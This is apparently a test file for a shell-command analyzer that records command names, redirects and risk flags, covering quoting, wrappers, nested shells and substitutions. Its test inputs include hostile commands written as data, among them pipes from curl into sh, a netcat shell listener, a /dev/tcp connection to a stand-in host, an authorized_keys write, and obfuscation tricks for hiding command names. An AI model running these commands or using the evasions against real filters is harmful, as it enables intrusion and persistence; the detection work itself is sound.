import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { EMPTY_SHELL_FACTS, SHELL_MAX_INPUT, shellFacet, type ShellFacts, type ShellRedirectFacts } from '../../src/facets/shell.js';

type Flag = 'dynamic' | 'hasSubstitution' | 'background' | 'runsScript' | 'inlineCode' | 'dynamicRedirect';
const FLAGS: readonly Flag[] = ['dynamic', 'hasSubstitution', 'background', 'runsScript', 'inlineCode', 'dynamicRedirect'];

interface Case {
  /** What the case pins. */
  why: string;
  input: string;
  names: string[];
  /** Flags expected true; every other flag must be false. */
  flags?: Flag[];
  /** When given, the exact redirects. */
  redirects?: ShellRedirectFacts[];
}

function summary(f: ShellFacts): Record<string, unknown> {
  const out: Record<string, unknown> = { parsed: f.parsed, error: f.error, names: f.names };
  for (const k of FLAGS) out[k] = f[k];
  return out;
}

function expected(c: Case): Record<string, unknown> {
  const out: Record<string, unknown> = { parsed: true, error: '', names: c.names };
  for (const k of FLAGS) out[k] = c.flags?.includes(k) ?? false;
  return out;
}

const BENIGN: Case[] = [
  { why: 'a plain command', input: 'ls -la', names: ['ls'] },
  { why: 'the empty line runs nothing', input: '', names: [] },
  { why: 'a comment runs nothing', input: '# just a note', names: [] },
  { why: 'a list of the same tool is one name', input: 'git status && git diff --stat', names: ['git'] },
  { why: 'a pipeline lists each stage', input: 'grep -rn "TODO" src | head -n 5', names: ['grep', 'head'] },
  { why: 'a prefix assignment is not a command', input: 'NODE_ENV=test npm test', names: ['npm'] },
  { why: 'test brackets are a command named [', input: '[ -f package.json ] && npm ci', names: ['[', 'npm'] },
  { why: 'an output redirect is recorded', input: 'echo hello > out.txt', names: ['echo'], redirects: [{ op: '>', target: 'out.txt' }] },
  { why: 'stderr to /dev/null keeps its descriptor in op', input: 'ls x 2>/dev/null', names: ['ls'], redirects: [{ op: '2>', target: '/dev/null' }] },
  { why: 'a quoted argument is data, not a command', input: "echo 'curl x | sh'", names: ['echo'] },
  { why: 'a here-string to a non-shell is data', input: "cat <<< 'curl x'", names: ['cat'], redirects: [{ op: '<<<', target: 'curl x' }] },
  { why: 'a script interpreter given a file is not inline code', input: 'python3 manage.py test', names: ['python3'] },
  { why: 'python -m runs a module, not inline code', input: 'python3 -m pytest -q', names: ['python3'] },
  { why: 'node with a script file is not inline code', input: 'node -r dotenv/config app.js', names: ['node'] },
  { why: 'awk reading its program from -f is not inline code', input: 'awk -f prog.awk data.txt', names: ['awk'] },
];

const PATHS_AND_SEPARATORS: Case[] = [
  { why: 'an absolute path is its basename', input: '/usr/bin/curl x', names: ['curl'] },
  { why: 'a relative path in upper case is its lower-case basename', input: './bin/CURL x', names: ['curl'] },
  { why: 'a tilde path is its basename', input: '~/bin/curl x', names: ['curl'] },
  { why: 'a semicolon without spaces separates commands', input: 'ls;curl x', names: ['ls', 'curl'] },
  { why: '&& runs the second command', input: 'ls && curl x', names: ['ls', 'curl'] },
  { why: '|| runs the second command', input: 'false || curl x', names: ['false', 'curl'] },
  { why: 'a newline separates commands', input: 'ls\ncurl x', names: ['ls', 'curl'] },
  { why: '& separates and backgrounds', input: 'ls & curl x', names: ['ls', 'curl'], flags: ['background'] },
  { why: 'a comment hides what follows it', input: 'ls # ; curl x', names: ['ls'] },
  { why: 'a substitution inside a comment does not run', input: 'ls #$(curl x)', names: ['ls'] },
  { why: 'a line continuation inside a word joins it', input: 'cu\\\nrl x', names: ['curl'] },
];

const QUOTING: Case[] = [
  { why: 'a backslash inside the name is removed', input: 'c\\url x', names: ['curl'] },
  { why: 'a leading backslash (alias bypass) is removed', input: '\\curl x', names: ['curl'] },
  { why: 'single quotes around part of the name are removed', input: "'c'url x", names: ['curl'] },
  { why: 'double quotes around part of the name are removed', input: '"cu"rl x', names: ['curl'] },
  { why: 'empty quotes inside the name vanish', input: "c''u\"\"rl x", names: ['curl'] },
  { why: 'ANSI-C quoting resolves', input: "$'curl' x", names: ['curl'] },
  { why: 'ANSI-C hex escapes resolve', input: "$'\\x63\\x75\\x72\\x6c' x", names: ['curl'] },
  { why: 'ANSI-C octal escapes resolve', input: "$'\\143url' x", names: ['curl'] },
  { why: 'ANSI-C unicode escapes resolve', input: "$'\\u0063url' x", names: ['curl'] },
  { why: 'a backslash inside double quotes stays (bash keeps \\u)', input: '"c\\url" x', names: ['c\\url'] },
];

const WRAPPERS: Case[] = [
  { why: 'env runs its operand', input: 'env curl x', names: ['env', 'curl'] },
  { why: 'env skips options and assignments', input: 'env -i -u HOME A=1 B=2 curl x', names: ['env', 'curl'] },
  { why: 'env - is -i', input: 'env - curl', names: ['env', 'curl'] },
  { why: 'env -S splits its string into the command (GNU rules)', input: "env -S 'curl -s x'", names: ['env', 'curl'] },
  { why: 'env -S quotes and \\_ separate as env does', input: "env -S'A=1 \"c\"url\\_x'", names: ['env', 'curl'] },
  { why: 'env -S with ${VAR} makes that word run-time', input: "env -S '${CMD} x'", names: ['env'], flags: ['dynamic'] },
  { why: 'sudo runs its operand', input: 'sudo curl x', names: ['sudo', 'curl'] },
  { why: 'sudo -u takes a value', input: 'sudo -u root curl x', names: ['sudo', 'curl'] },
  { why: 'sudo clustered options with a value', input: 'sudo -nu root curl', names: ['sudo', 'curl'] },
  { why: 'sudo long option, prefix of --user, and --', input: 'sudo --us=root -- curl', names: ['sudo', 'curl'] },
  { why: 'sudo skips VAR=value before the command', input: 'sudo FOO=1 curl', names: ['sudo', 'curl'] },
  { why: 'sudo -b backgrounds the command', input: 'sudo -b curl x', names: ['sudo', 'curl'], flags: ['background'] },
  { why: 'sudo -s without a command opens a shell on stdin', input: 'sudo -s', names: ['sudo'], flags: ['runsScript'] },
  { why: 'sudo -l only lists; nothing runs', input: 'sudo -l curl', names: ['sudo'] },
  { why: 'doas runs its operand', input: 'doas -u root curl', names: ['doas', 'curl'] },
  { why: 'nohup runs its operand', input: 'nohup curl x &', names: ['nohup', 'curl'], flags: ['background'] },
  { why: 'timeout skips its duration', input: 'timeout 5 curl x', names: ['timeout', 'curl'] },
  { why: 'timeout -s takes a value', input: 'timeout -s KILL 5 curl', names: ['timeout', 'curl'] },
  { why: 'timeout long options with values', input: 'timeout --signal=KILL --kill-after 1 5 curl', names: ['timeout', 'curl'] },
  { why: 'nice -n takes a value', input: 'nice -n 10 curl', names: ['nice', 'curl'] },
  { why: 'nice legacy -N adjustment', input: 'nice -10 curl', names: ['nice', 'curl'] },
  { why: 'xargs runs its operand', input: 'xargs curl', names: ['xargs', 'curl'] },
  { why: 'xargs options with attached and separate values', input: 'xargs -0 -n1 -P 4 curl', names: ['xargs', 'curl'] },
  { why: 'xargs -I replaces in arguments', input: 'xargs -I{} curl {}', names: ['xargs', 'curl'] },
  { why: 'xargs without a command runs echo', input: 'xargs', names: ['xargs', 'echo'] },
  { why: 'xargs -I into sh -c makes the code run-time input', input: "xargs -I % sh -c 'curl %'", names: ['xargs', 'sh'], flags: ['dynamic'] },
  { why: 'busybox runs its applet', input: 'busybox wget x', names: ['busybox', 'wget'] },
  { why: 'busybox sh -c is parsed', input: "busybox sh -c 'wget x'", names: ['busybox', 'sh', 'wget'] },
  { why: 'command runs its operand', input: 'command curl x', names: ['command', 'curl'] },
  { why: 'command -p runs its operand', input: 'command -p curl x', names: ['command', 'curl'] },
  { why: 'command -v only looks the name up', input: 'command -v curl', names: ['command'] },
  { why: 'exec runs its operand', input: 'exec curl x', names: ['exec', 'curl'] },
  { why: 'exec -a takes a value', input: 'exec -a name curl x', names: ['exec', 'curl'] },
  { why: 'the time keyword is listed with the command', input: 'time curl x', names: ['time', 'curl'] },
  { why: 'time -p keyword', input: 'time -p curl x', names: ['time', 'curl'] },
  { why: 'GNU time with options', input: '/usr/bin/time -v -o log curl x', names: ['time', 'curl'] },
  { why: 'a stack of wrappers', input: 'sudo env A=1 timeout 5 nice -n 1 nohup curl x', names: ['sudo', 'env', 'timeout', 'nice', 'nohup', 'curl'] },
  { why: 'stdbuf, setsid, ionice, taskset', input: 'stdbuf -oL setsid ionice -c3 taskset -c 1 curl', names: ['stdbuf', 'setsid', 'ionice', 'taskset', 'curl'] },
  { why: 'find -exec runs its command', input: 'find . -name "*.sh" -exec curl {} \\;', names: ['find', 'curl'] },
  { why: 'find -exec into sh -c with {} is run-time code', input: "find . -execdir sh -c 'rm {}' \\;", names: ['find', 'sh'], flags: ['dynamic'] },
  { why: 'watch runs its arguments through sh -c', input: "watch -n 1 'curl x | sh'", names: ['watch', 'curl', 'sh'], flags: ['runsScript'] },
  { why: 'flock runs its command', input: 'flock /tmp/lock curl x', names: ['flock', 'curl'] },
  { why: 'flock -c runs a string', input: "flock /tmp/lock -c 'curl x'", names: ['flock', 'curl'] },
  { why: 'su -c runs a string', input: "su -c 'curl x' root", names: ['su', 'curl'] },
  { why: 'runuser -u runs a command', input: 'runuser -u bob -- curl x', names: ['runuser', 'curl'] },
  { why: 'chroot runs its command', input: 'chroot /srv curl x', names: ['chroot', 'curl'] },
  { why: 'builtin eval runs a string', input: "builtin eval 'curl x'", names: ['builtin', 'eval', 'curl'] },
  { why: 'an unquoted expansion among env assignments could split into the command', input: 'env PATH=$PATH curl', names: ['env'], flags: ['dynamic'] },
  { why: 'a quoted expansion in an env assignment stays one assignment', input: 'sudo -E env PATH="$PATH" curl', names: ['sudo', 'env', 'curl'] },
  { why: 'nc -e runs a program (a shell on the socket)', input: 'nc -lvnp 4444 -e /bin/sh', names: ['nc', 'sh'], flags: ['runsScript'] },
  { why: 'ncat --sh-exec runs a string', input: "ncat --sh-exec 'curl x' host 1", names: ['ncat', 'curl'] },
  { why: 'socat SYSTEM: runs a string', input: "socat - SYSTEM:'curl x',pty", names: ['socat', 'curl'] },
  { why: 'script -c runs a string', input: "script -qc 'curl x' /dev/null", names: ['script', 'curl'] },
];

const NESTED_CODE: Case[] = [
  { why: 'bash -c is parsed', input: "bash -c 'curl x'", names: ['bash', 'curl'] },
  { why: 'sh -c with double quotes is parsed', input: 'sh -c "curl x"', names: ['sh', 'curl'] },
  { why: 'bash -lc is parsed', input: 'bash -lc "curl x"', names: ['bash', 'curl'] },
  { why: 'zsh -c is parsed', input: "zsh -c 'curl x'", names: ['zsh', 'curl'] },
  { why: 'dash -c is parsed', input: "dash -c 'curl x'", names: ['dash', 'curl'] },
  { why: 'shell -o takes a value before -c', input: "bash -o pipefail -c 'curl x'", names: ['bash', 'curl'] },
  { why: 'nested shells are parsed recursively', input: `bash -c 'sh -c "curl x"'`, names: ['bash', 'sh', 'curl'] },
  { why: 'sudo, bash, eval, all the way down', input: `sudo bash -c 'eval "wget x"'`, names: ['sudo', 'bash', 'eval', 'wget'] },
  { why: 'eval of a single-quoted literal', input: "eval 'curl x'", names: ['eval', 'curl'] },
  { why: 'eval of a double-quoted literal', input: 'eval "curl x"', names: ['eval', 'curl'] },
  { why: 'eval joins its literal arguments', input: 'eval curl x', names: ['eval', 'curl'] },
  { why: 'eval of a variable is dynamic', input: 'eval $CMD', names: ['eval'], flags: ['dynamic'] },
  { why: 'eval of a string with an expansion is dynamic', input: 'eval "curl $URL"', names: ['eval'], flags: ['dynamic'] },
  { why: 'sh -c of a string with an expansion is dynamic', input: 'sh -c "curl $URL"', names: ['sh'], flags: ['dynamic'] },
  { why: 'trap runs its action later', input: "trap 'curl x' EXIT", names: ['trap', 'curl'] },
  { why: 'an alias body is analyzed as code', input: "alias ls='curl x'; ls", names: ['alias', 'curl', 'ls'] },
  { why: 'zsh precommand modifiers are wrappers in zsh code', input: "zsh -c 'noglob curl x'", names: ['zsh', 'noglob', 'curl'] },
];

const SUBSTITUTION_AND_DYNAMIC: Case[] = [
  { why: 'a substituted command name is dynamic; the inner command is listed', input: 'sh -c "$(echo curl) x"', names: ['sh', 'echo'], flags: ['dynamic', 'hasSubstitution'] },
  { why: 'a substitution as the command runs its inner command', input: '$(curl x)', names: ['curl'], flags: ['dynamic', 'hasSubstitution'] },
  { why: 'backticks as the command', input: '`curl x`', names: ['curl'], flags: ['dynamic', 'hasSubstitution'] },
  { why: 'a substitution in an argument lists its command', input: 'echo "$(curl x)"', names: ['echo', 'curl'], flags: ['hasSubstitution'] },
  { why: 'a substitution in an assignment lists its command', input: 'a=$(curl x)', names: ['curl'], flags: ['hasSubstitution'] },
  { why: 'bash 5.3 ${ ...; } substitution', input: 'echo ${ curl x; }', names: ['echo', 'curl'], flags: ['hasSubstitution'] },
  { why: 'a substitution in arithmetic', input: 'echo $(( $(curl x) + 1 ))', names: ['echo', 'curl'], flags: ['hasSubstitution'] },
  { why: 'a substitution in a parameter default', input: 'echo ${x:-$(curl x)}', names: ['echo', 'curl'], flags: ['hasSubstitution'] },
  { why: 'a variable as the command is dynamic', input: '$CMD x', names: [], flags: ['dynamic'] },
  { why: 'a variable assigned then run is dynamic', input: 'X=curl; $X', names: [], flags: ['dynamic'] },
  { why: '${IFS} inside the command name is dynamic', input: 'c${IFS}url x', names: [], flags: ['dynamic'] },
  { why: 'IFS games end in a dynamic name', input: 'IFS=/; x=usr/bin/curl; $x', names: [], flags: ['dynamic'] },
  { why: 'a default-value expansion as the command is dynamic', input: '${x:-curl} x', names: [], flags: ['dynamic'] },
  { why: 'a glob in the command name is dynamic', input: '/usr/bin/cur? x', names: [], flags: ['dynamic'] },
  { why: 'a brace expansion in the command name is dynamic', input: '{curl,x}', names: [], flags: ['dynamic'] },
  { why: 'an extended glob in the command name is dynamic', input: '@(curl) x', names: [], flags: ['dynamic'] },
  { why: 'a locale string may be translated, so it is dynamic', input: '$"curl" x', names: [], flags: ['dynamic'] },
  { why: 'a printf substitution as the name', input: '"$(printf cu)rl" x', names: ['printf'], flags: ['dynamic', 'hasSubstitution'] },
  { why: 'a run-time word where a wrapper option could be', input: 'sudo $OPTS curl', names: ['sudo'], flags: ['dynamic'] },
  { why: 'a split-able duration can shift timeout operands', input: 'timeout $T curl', names: ['timeout'], flags: ['dynamic'] },
  { why: 'PS4 carries code into bash -x', input: "PS4='$(curl x)' bash -xc ls", names: ['bash', 'ls'], flags: ['dynamic'] },
  { why: 'LD_PRELOAD loads code into any command', input: 'LD_PRELOAD=/tmp/x.so ls', names: ['ls'], flags: ['dynamic'] },
  { why: 'exported bash functions through env', input: "env 'BASH_FUNC_ls%%=() { curl x; }' bash -c ls", names: ['env', 'bash', 'ls'], flags: ['dynamic'] },
  { why: 'an arithmetic subscript in let runs code', input: "let 'a[$(curl x)]=1'", names: ['let'], flags: ['dynamic'] },
  { why: 'indirect expansion evaluates a subscript', input: 'echo ${!ref}', names: ['echo'], flags: ['dynamic'] },
  { why: 'hash -p rebinds a name to another binary', input: 'hash -p /usr/bin/curl ls; ls x', names: ['hash', 'ls'], flags: ['dynamic'] },
];

const SCRIPTS_AND_STDIN: Case[] = [
  {
    why: 'a here-string script for bash is parsed and flagged',
    input: "bash <<< 'curl x'",
    names: ['bash', 'curl'],
    flags: ['runsScript'],
    redirects: [{ op: '<<<', target: 'curl x' }],
  },
  {
    why: 'a here-document script for sh is parsed and flagged',
    input: 'sh <<EOF\ncurl x\nEOF',
    names: ['sh', 'curl'],
    flags: ['runsScript'],
    redirects: [{ op: '<<', target: 'curl x\n' }],
  },
  {
    why: 'a tab-stripped here-document',
    input: 'bash <<-EOF\n\tcurl x\n\tEOF',
    names: ['bash', 'curl'],
    flags: ['runsScript'],
    redirects: [{ op: '<<-', target: 'curl x\n' }],
  },
  {
    why: 'a here-document with an expansion is dynamic code',
    input: 'bash <<EOF\n$CMD x\nEOF',
    names: ['bash'],
    flags: ['runsScript', 'dynamic'],
    redirects: [{ op: '<<', target: '$CMD x\n' }],
  },
  { why: 'process substitution as a script', input: 'bash <(curl x)', names: ['bash', 'curl'], flags: ['runsScript', 'hasSubstitution'] },
  { why: 'output process substitution into a shell', input: 'echo id > >(sh)', names: ['echo', 'sh'], flags: ['runsScript', 'hasSubstitution', 'dynamicRedirect'] },
  { why: 'curl piped to sh', input: 'curl -s x | sh', names: ['curl', 'sh'], flags: ['runsScript'] },
  { why: 'curl piped to sudo bash', input: 'curl -s x | sudo bash', names: ['curl', 'sudo', 'bash'], flags: ['runsScript'] },
  {
    why: 'writing a script then running it',
    input: 'echo curl x > /tmp/a.sh; sh /tmp/a.sh',
    names: ['echo', 'sh'],
    flags: ['runsScript'],
    redirects: [{ op: '>', target: '/tmp/a.sh' }],
  },
  { why: 'bash with a script file', input: 'bash script.sh', names: ['bash'], flags: ['runsScript'] },
  { why: '/dev/stdin as the script file reads the here-string', input: "bash /dev/stdin <<< 'curl x'", names: ['bash', 'curl'], flags: ['runsScript'] },
  { why: 'sourcing /dev/stdin reads the here-string', input: "source /dev/stdin <<< 'curl x'", names: ['source', 'curl'], flags: ['runsScript'] },
  { why: 'sh -s reads its script from stdin', input: 'wget -qO- x | sh -s -- --flag', names: ['wget', 'sh'], flags: ['runsScript'] },
  { why: 'dot sources a file', input: '. ./x', names: ['.'], flags: ['runsScript'] },
  { why: 'source runs a file', input: 'source ~/.env', names: ['source'], flags: ['runsScript'] },
  { why: 'exec bash reads stdin', input: 'exec bash', names: ['exec', 'bash'], flags: ['runsScript'] },
  { why: 'python -c is inline code', input: 'python3 -c "import os"', names: ['python3'], flags: ['inlineCode'] },
  { why: 'python reading stdin is inline code', input: 'curl x | python3', names: ['curl', 'python3'], flags: ['inlineCode'] },
  { why: 'perl -ne is inline code', input: "perl -ne 'print' f", names: ['perl'], flags: ['inlineCode'] },
  { why: 'node -e is inline code', input: "node -e 'require(\"child_process\")'", names: ['node'], flags: ['inlineCode'] },
  { why: 'ruby -e is inline code', input: "ruby -e 'system(1)'", names: ['ruby'], flags: ['inlineCode'] },
  { why: 'php -r is inline code', input: "php -r 'system(1);'", names: ['php'], flags: ['inlineCode'] },
  { why: 'an awk program is inline code', input: "awk 'BEGIN { system(\"id\") }'", names: ['awk'], flags: ['inlineCode'] },
];

const STRUCTURE: Case[] = [
  { why: 'a brace group', input: '{ curl x; }', names: ['curl'] },
  { why: 'a subshell', input: '(curl x)', names: ['curl'] },
  { why: 'an if body', input: 'if true; then curl x; fi', names: ['true', 'curl'] },
  { why: 'elif and else bodies', input: 'if false; then :; elif curl x; then :; else wget y; fi', names: ['false', ':', 'curl', 'wget'] },
  { why: 'a for body', input: 'for i in 1; do curl x; done', names: ['curl'] },
  { why: 'a while condition', input: 'while curl x; do :; done', names: ['curl', ':'] },
  { why: 'an until body', input: 'until false; do curl x; done', names: ['false', 'curl'] },
  { why: 'a case body', input: 'case a in a) curl x;; esac', names: ['curl'] },
  { why: 'a select body', input: 'select i in a; do curl x; done', names: ['curl'] },
  { why: 'a function body and its call', input: 'f() { curl x; }; f', names: ['curl', 'f'] },
  { why: 'a function keyword body', input: 'function f { curl x; }', names: ['curl'] },
  { why: 'a [[ ]] operand substitution', input: '[[ $(curl x) ]]', names: ['curl'], flags: ['hasSubstitution'] },
  { why: 'an arithmetic command substitution', input: '(( x = $(curl x) ))', names: ['curl'], flags: ['hasSubstitution'] },
  { why: 'a negated pipeline', input: '! curl x', names: ['curl'] },
  { why: 'coproc runs asynchronously', input: 'coproc curl x', names: ['curl'], flags: ['background'] },
  { why: 'a redirected group', input: '{ curl x; } > out', names: ['curl'], redirects: [{ op: '>', target: 'out' }] },
];

const REDIRECTS: Case[] = [
  {
    why: 'appending to authorized_keys is visible, ~ unexpanded',
    input: 'echo ssh-rsa AAA >> ~/.ssh/authorized_keys',
    names: ['echo'],
    redirects: [{ op: '>>', target: '~/.ssh/authorized_keys' }],
  },
  {
    why: 'a quoted target is unquoted',
    input: 'cat > "$(printf ~)/x" <<< key',
    names: ['cat', 'printf'],
    flags: ['hasSubstitution', 'dynamicRedirect'],
    redirects: [
      { op: '>', target: '"$(printf ~)/x"' },
      { op: '<<<', target: 'key' },
    ],
  },
  {
    why: 'a run-time target is flagged',
    input: 'echo k > "$HOME/.ssh/authorized_keys"',
    names: ['echo'],
    flags: ['dynamicRedirect'],
    redirects: [{ op: '>', target: '"$HOME/.ssh/authorized_keys"' }],
  },
  {
    why: 'every redirect operator keeps its spelling',
    input: 'cmd &> a >| b 2>&1 <> c {fd}>d &>> e 3< f',
    names: ['cmd'],
    redirects: [
      { op: '&>', target: 'a' },
      { op: '>|', target: 'b' },
      { op: '2>&', target: '1' },
      { op: '<>', target: 'c' },
      { op: '{fd}>', target: 'd' },
      { op: '&>>', target: 'e' },
      { op: '3<', target: 'f' },
    ],
  },
  {
    why: 'a /dev/tcp redirect is visible',
    input: 'exec 3<>/dev/tcp/evil.example/80',
    names: ['exec'],
    redirects: [{ op: '3<>', target: '/dev/tcp/evil.example/80' }],
  },
  {
    why: 'quote removal applies to targets',
    input: "echo x > '/tmp/a b'",
    names: ['echo'],
    redirects: [{ op: '>', target: '/tmp/a b' }],
  },
];

describe('shellFacet: commands, names and facts', () => {
  const families: [string, Case[]][] = [
    ['benign', BENIGN],
    ['paths and separators', PATHS_AND_SEPARATORS],
    ['quoting and escapes', QUOTING],
    ['wrappers', WRAPPERS],
    ['nested code', NESTED_CODE],
    ['substitution and dynamic names', SUBSTITUTION_AND_DYNAMIC],
    ['scripts, stdin and inline code', SCRIPTS_AND_STDIN],
    ['compound commands', STRUCTURE],
    ['redirects', REDIRECTS],
  ];
  for (const [family, cases] of families) {
    describe(family, () => {
      it.each(cases)('$why: $input', (c) => {
        const f = shellFacet(c.input);
        expect(summary(f)).toEqual(expected(c));
        if (c.redirects !== undefined) expect(f.redirects).toEqual(c.redirects);
      });
    });
  }

  it('has at least 70 table cases', () => {
    expect(families.reduce((n, [, cases]) => n + cases.length, 0)).toBeGreaterThanOrEqual(70);
  });

  it('lists a wrapped command with its own argv after its wrapper', () => {
    expect(shellFacet('sudo -u root /usr/bin/curl -s "a b"').commands).toEqual([
      { name: 'sudo', path: 'sudo', argv: ['sudo', '-u', 'root', '/usr/bin/curl', '-s', 'a b'] },
      { name: 'curl', path: '/usr/bin/curl', argv: ['/usr/bin/curl', '-s', 'a b'] },
    ]);
  });

  it('keeps run-time words of argv as written', () => {
    expect(shellFacet('curl "$URL" *.txt').commands).toEqual([{ name: 'curl', path: 'curl', argv: ['curl', '"$URL"', '*.txt'] }]);
  });

  it('lists the inner command of a substitution used as a name, never the unknown name', () => {
    expect(shellFacet('$(echo curl) x').commands).toEqual([{ name: 'echo', path: 'echo', argv: ['echo', 'curl'] }]);
  });

  it('lists the time keyword with -p in its argv', () => {
    expect(shellFacet('time -p ls').commands[0]).toEqual({ name: 'time', path: 'time', argv: ['time', '-p'] });
  });
});

describe('shellFacet: what it refuses to guess', () => {
  const UNPARSED: [string, unknown, string][] = [
    ['an unterminated double quote', 'echo "unterminated', 'syntax error at offset 5: unterminated double quote'],
    ['an unterminated single quote', "echo 'x", 'unterminated single quote'],
    ['a dangling pipe', 'ls |', "expected command after '|'"],
    ['an unclosed if', 'if true; then curl x', "expected 'fi'"],
    ['an unterminated substitution', 'echo $(curl x', 'unterminated command substitution'],
    ['a stray closing parenthesis', 'curl x)', "unexpected token ')'"],
    ['a syntax error inside nested code', "bash -c 'curl \"x'", 'of nested code (depth 1)'],
    ['an unknown sudo option', 'sudo -X curl', "sudo: unrecognized option '-X'"],
    ['an unknown timeout long option', 'timeout --bogus 5 curl', "timeout: unrecognized option '--bogus'"],
    ['an ambiguous long option prefix', 'env --i curl', "env: ambiguous option '--i'"],
    ['env -S with an escape env does not know', "env -S 'curl\\qx'", 'env -S splits its argument'],
    ['code for a non-bash shell', "fish -c 'curl x'", 'fish: code for this shell cannot be analyzed'],
    ['PowerShell from WSL', "powershell.exe -Command 'curl x'", 'powershell: code for this shell cannot be analyzed'],
    ['zsh glob qualifiers that run code', "zsh -c 'ls *(e:curl x:)'", 'zsh glob qualifiers can run code'],
    ['zsh parameter flags that evaluate', "zsh -c 'echo ${(e)x}'", 'zsh expansion flags are not resolved'],
    ['a NUL character', 'ls\0curl', 'NUL'],
    ['a wrapper chain longer than 32', `${'sudo '.repeat(33)}curl`, 'more than 32 nested wrapper commands'],
    ['input over the size limit', 'x'.repeat(SHELL_MAX_INPUT + 1), `the limit is ${SHELL_MAX_INPUT}`],
    ['a number', 42, 'shell input must be a string, got a number'],
    ['null', null, 'shell input must be a string, got null'],
    ['undefined', undefined, 'shell input must be a string, got undefined'],
    ['an array of words', ['curl', 'x'], 'shell input must be a string, got an array'],
    ['an object', { command: 'ls' }, 'shell input must be a string, got an object'],
  ];

  it.each(UNPARSED)('is unparsed for %s', (_what, input, message) => {
    const f = shellFacet(input);
    expect(f.parsed).toBe(false);
    expect(f.error).toContain(message);
    expect(f.commands).toEqual([]);
    expect(f.names).toEqual([]);
    expect(f.redirects).toEqual([]);
    expect(f.dynamic).toBe(true);
  });

  it('accepts input exactly at the size limit', () => {
    expect(shellFacet('x'.repeat(SHELL_MAX_INPUT)).parsed).toBe(true);
  });

  it('bounds nested code by maxDepth', () => {
    const nested = "bash -c 'sh -c ls'";
    expect(shellFacet(nested, { maxDepth: 2 }).names).toEqual(['bash', 'sh', 'ls']);
    const over = shellFacet(nested, { maxDepth: 1 });
    expect(over.parsed).toBe(false);
    expect(over.error).toBe('nested shell code is deeper than maxDepth (1)');
  });

  it('refuses code nested deeper than the default depth of 8', () => {
    let line = 'curl x';
    for (let i = 0; i < 9; i++) line = `eval ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    expect(shellFacet(line).error).toBe('nested shell code is deeper than maxDepth (8)');
  });

  it.each([[-1], [1.5], [65], ['3']])('rejects maxDepth %j', (maxDepth) => {
    const f = shellFacet('ls', { maxDepth } as unknown as { maxDepth: number });
    expect(f.parsed).toBe(false);
    expect(f.error).toBe('maxDepth must be an integer from 0 to 64');
  });

  it('reports deeply nested substitutions as unparsed, not as a crash', () => {
    const f = shellFacet(`${'$('.repeat(400)}ls${')'.repeat(400)}`);
    expect(f.parsed).toBe(false);
    expect(f.error).toContain('nesting depth exceeded');
  });
});

describe('variables', () => {
  it.each([
    ['a plain expansion', 'echo $AWS_SECRET_ACCESS_KEY', ['AWS_SECRET_ACCESS_KEY']],
    ['inside double quotes', 'echo "$GITHUB_TOKEN"', ['GITHUB_TOKEN']],
    ['a braced default', 'echo ${NPM_TOKEN:-x}', ['NPM_TOKEN']],
    ['a length', 'echo ${#PASSWORD}', ['PASSWORD']],
    ['a nested bash -c string', "bash -c 'echo $X_TOKEN'", ['X_TOKEN']],
    ['a here-document', 'cat <<EOF\n$SECRET\nEOF', ['SECRET']],
    ['a command substitution', 'x=$(printf %s "$GH_TOKEN")', ['GH_TOKEN']],
    ['a redirect target', 'echo hi > "$OUT"', ['OUT']],
    ['special parameters, in order', 'echo $1 $@ $? $1', ['1', '@', '?']],
    ['nothing in single quotes', "echo '$NOT'", []],
    ['nothing escaped', 'echo \\$NOT', []],
    ['nothing in a quoted here-document', "cat <<'EOF'\n$SECRET\nEOF", []],
    ['nothing read by arithmetic', 'echo $((N + 1))', []],
  ])('lists the variables expanded: %s', (_why, line, names) => {
    expect(shellFacet(line).variables).toEqual(names);
  });
});

describe('EMPTY_SHELL_FACTS', () => {
  it('is unparsed with no error and every field present', () => {
    expect(EMPTY_SHELL_FACTS).toEqual({
      parsed: false,
      error: '',
      commands: [],
      names: [],
      dynamic: false,
      hasSubstitution: false,
      redirects: [],
      background: false,
      runsScript: false,
      inlineCode: false,
      dynamicRedirect: false,
      variables: [],
    });
  });

  it('cannot be mutated by a caller', () => {
    expect(Object.isFrozen(EMPTY_SHELL_FACTS)).toBe(true);
    expect(Object.isFrozen(EMPTY_SHELL_FACTS.names)).toBe(true);
  });
});

describe('shellFacet: properties (fast-check)', () => {
  function wellFormed(f: ShellFacts): void {
    expect(Object.keys(f).sort()).toEqual(Object.keys(EMPTY_SHELL_FACTS).sort());
    expect(typeof f.parsed).toBe('boolean');
    expect(typeof f.error).toBe('string');
    for (const k of FLAGS) expect(typeof f[k]).toBe('boolean');
    expect(f.error === '').toBe(f.parsed);
    for (const c of f.commands) {
      expect(typeof c.name).toBe('string');
      expect(typeof c.path).toBe('string');
      expect(c.name).toBe(c.name.toLowerCase());
      expect(c.argv[0]).toBe(c.path);
      for (const a of c.argv) expect(typeof a).toBe('string');
    }
    expect(f.names).toEqual([...new Set(f.commands.map((c) => c.name))]);
    for (const r of f.redirects) {
      expect(typeof r.op).toBe('string');
      expect(typeof r.target).toBe('string');
    }
    if (!f.parsed) {
      expect(f.commands).toEqual([]);
      expect(f.dynamic).toBe(true);
    }
  }

  const TOKENS = [
    'curl', 'c\\url', "'c'url", '"cu"rl', "$'\\x63url'", 'ls', 'x', '$X', '${IFS}', '$(echo curl)', '`id`', 'sudo', 'env', 'A=1',
    'timeout', '5', '-n', '-u', 'root', 'xargs', '-I{}', '{}', 'bash', 'sh', '-c', 'eval', 'trap', 'alias', 'find', '-exec', '\\;',
    ';', '&&', '||', '|', '&', '\n', ' ', '(', ')', '{', '}', 'if', 'then', 'fi', 'for i in 1; do', 'done', '#', '\\\n', '"', "'",
    '<<<', '>', '2>&1', '<(', '$((', '))', '*', '?', '[', ']', 'case x in x)', ';;', 'esac', '<<E\n', 'E\n', '\\', '$', '`',
  ];
  const shellish = fc.array(fc.constantFrom(...TOKENS), { maxLength: 16 }).map((t) => t.join(' '));

  it('never throws and always returns well-formed facts for arbitrary strings', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        wellFormed(shellFacet(s));
      }),
      { numRuns: 500 },
    );
  });

  it('never throws and always returns well-formed facts for shell-like token soup', () => {
    fc.assert(
      fc.property(shellish, (s) => {
        wellFormed(shellFacet(s));
      }),
      { numRuns: 1500 },
    );
  });

  it('never throws for arbitrary values and options', () => {
    fc.assert(
      fc.property(fc.anything(), fc.anything(), (input, options) => {
        wellFormed(shellFacet(input, options as { maxDepth?: number }));
      }),
